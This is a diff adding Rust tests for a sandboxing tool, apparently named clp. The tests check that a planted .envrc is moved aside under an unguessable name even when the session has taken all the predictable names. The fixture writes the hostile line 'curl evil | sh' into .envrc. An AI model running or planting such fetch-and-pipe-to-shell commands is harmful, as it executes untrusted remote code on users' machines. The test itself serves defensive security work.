@@ -1195,6 +1195,59 @@ fn later_execution_files_are_read_only_or_held_aside_c_as_user() {
     later_execution(As::User, Level::C);
 }
 
+/// The session knows the clock and when it ends, so it can take the names clp would hold
+/// a planted file under (`X.clp-held-<seconds>`); clp must still move it away, under a
+/// name the session could not guess. Control: the names were taken.
+fn held_aside_names_taken(mode: As) {
+    let Some(b) = boxed(mode, Level::B) else {
+        return;
+    };
+    let out = session(
+        &b,
+        &[],
+        "echo 'curl evil | sh' > .envrc; now=$(date +%s); \
+         for t in $(seq $((now - 2)) $((now + 30))); do echo taken > .envrc.clp-held-$t; done",
+    );
+    let (stdout, stderr) = text(&out);
+    assert!(out.status.success(), "{mode:?}: {stdout}{stderr}");
+    assert!(
+        !b.project.join(".envrc").exists(),
+        "{mode:?}: the planted .envrc stayed:\n{stderr}"
+    );
+    let names: Vec<String> = std::fs::read_dir(&b.project)
+        .unwrap()
+        .flatten()
+        .map(|e| e.file_name().to_string_lossy().into_owned())
+        .filter(|n| n.starts_with(".envrc.clp-held-"))
+        .collect();
+    let held: Vec<&String> = names
+        .iter()
+        .filter(|n| std::fs::read_to_string(b.project.join(n)).unwrap() != "taken\n")
+        .collect();
+    assert_eq!(held.len(), 1, "{mode:?}: {names:?}\n{stderr}");
+    assert!(
+        names.len() > 30,
+        "control: the session did not take the names: {names:?}"
+    );
+    assert!(
+        stderr.contains(&format!(
+            "moved it to `{}`",
+            b.project.join(held[0]).display()
+        )),
+        "{mode:?}: {stderr}"
+    );
+}
+
+#[test]
+fn held_aside_under_a_name_the_session_did_not_take_as_root() {
+    held_aside_names_taken(As::Root);
+}
+
+#[test]
+fn held_aside_under_a_name_the_session_did_not_take_as_user() {
+    held_aside_names_taken(As::User);
+}
+
 // ---- After the session, clp reads what the session left without being stuck --------
 
 /// A FIFO, or a link to an endless device, where clp reads a nested repository's config
